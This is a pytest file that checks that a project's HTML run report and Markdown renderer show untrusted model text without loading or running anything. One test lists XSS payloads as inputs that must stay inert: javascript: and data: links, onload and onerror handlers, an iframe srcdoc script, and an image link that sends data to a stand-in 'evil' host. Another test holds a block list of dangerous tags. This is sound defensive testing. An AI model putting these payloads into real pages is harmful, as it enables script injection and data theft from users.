"""The HTML report and its Markdown: everything shown, nothing run."""

from __future__ import annotations

import re
import time

import pytest

from conductor.exports.escaping import visible
from conductor.exports.markdown import MAX_CHARS, rendered
from conductor.exports.report import run_report
from conductor_client.run_state import fold
from conductor_client.workflow import workflow_of
from tests.conductor.exports.pages import Tags
from tests.conductor.exports.runs import (
    HOSTILE,
    RUNS,
    finished,
)


@pytest.mark.parametrize("run", RUNS)
def test_report_holds_no_script_no_handler_no_request(run: str) -> None:
    page = Tags(run_report(fold(RUNS[run])))
    for tag, attributes in page.found:
        assert tag not in {
            "script",
            "img",
            "iframe",
            "link",
            "object",
            "embed",
            "base",
            "form",
            "image",
            "use",
        }
        assert not any(
            name.startswith("on") or name in {"src", "srcdoc", "xlink:href"} for name in attributes
        )
        assert (attributes.get("href") or "#").startswith(("#", "https://example.org/"))
    policy = [attributes for tag, attributes in page.found if attributes.get("http-equiv")]
    assert (
        policy[0]["content"]
        == "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"
    )


def test_report_shows_every_hostile_text_as_text() -> None:
    said = "".join(Tags(run_report(fold(RUNS["hostile"]))).said)
    for label in HOSTILE:
        assert visible(label).strip() in said


def test_report_tells_the_whole_run() -> None:
    state = fold(RUNS["rich"])
    page = run_report(state)
    said = " ".join(" ".join(Tags(page).said).split())
    for words in (
        "A train leaves at 14:20",
        "2 hours and 33 minutes",
        "≥ $0.0012",
        "≥ 894",
        "Reused from run_parent",
        "step 1 , step 2 · Withheld: step 3",
        "Sees only the prompt · Withheld: step 1 , step 2",
        "You are one of several workers.",
        "165 minus 12 is 153",
        "overloaded: The server is busy (503).",
        "The output ended at the limit of 16 tokens.",
        "unused by the answer",
        "Attempt 1, refused",
        "I would ask everyone.",
        "unparsable",
        "repaired_quotes step 3: Quotation marks were mended.",
        "97 %",
        "Arithmetic is safer with the calculator.",
        "Forked from run_parent",
        "Step 2 was given to calculator",
        "Step 4 now sees: 1, 2",
        "max_usd 0.5",
        "2026-03-01 09:30:00 UTC",
        "$1.25 in, $10 out per million tokens (pool file)",
    ):
        assert words in said, words
    assert "<strong>2 hours and 33 minutes</strong>" in page
    assert 'href="https://example.org/t?a=1&amp;b=2"' in page
    assert 'href="#step-1-1"' in page
    assert "MARKER_KEY" not in page


def test_report_shows_a_failure_with_its_hint_and_what_was_written() -> None:
    said = " ".join(Tags(run_report(fold(RUNS["failed"]))).said)
    for words in (
        "step_failed: Step 4 failed.",
        "Try another worker.",
        "I cannot",
        "partial",
        "There is no answer.",
    ):
        assert words in said
    assert "It needed step 1." in " ".join(Tags(run_report(fold(RUNS["skipped"]))).said)


def test_report_keeps_messages_byte_for_byte() -> None:
    content = "\n  two  spaces\n\nand `ticks` <b>&amp;</b>\n"
    events = finished(workflow_of("p", [("a", content, [])]))
    page = run_report(fold(events))
    found = re.findall(r'<pre class="text">\n(.*?)</pre>', page, re.DOTALL)
    assert "p\n" + content in [
        part.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&") for part in found
    ]


# Markdown


@pytest.mark.parametrize(
    "attack",
    [
        "![x](http://evil/?d=1)",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<svg onload=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "<javascript:alert(1)>",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](//evil/)",
        "[x](/api/runs)",
        "![x][r]\n\n[r]: http://evil/",
        '```js"><img src=x onerror=alert(1)>\nx\n```',
        '[x](https://ok/"onmouseover="alert(1))',
    ],
)
def test_markdown_of_models_loads_and_runs_nothing(attack: str) -> None:
    page = Tags(rendered(attack) or "")
    assert {tag for tag, _ in page.found} <= {"p", "a", "pre", "code"}
    for _, attributes in page.found:
        assert set(attributes) <= {"href", "rel", "target", "class"}
        assert (attributes.get("href") or "https://").startswith(("http://", "https://"))


def test_markdown_draws_what_answers_use() -> None:
    drawn = rendered("# T\n\n- a\n\n|x|y|\n|-|-|\n|1|2|\n\n**b** ~~s~~ `c` <https://e.org>\n\n    code") or ""
    for part in ("<h1>", "<ul>", "<table>", "<strong>", "<s>", "<code>", 'href="https://e.org"', "<pre>"):
        assert part in drawn


def test_long_answers_are_shown_raw_at_once() -> None:
    assert rendered("[" * (MAX_CHARS + 1)) is None
    began = time.process_time()
    rendered("[" * MAX_CHARS)
    assert time.process_time() - began < 60, "the longest text that is drawn takes more than linear time"
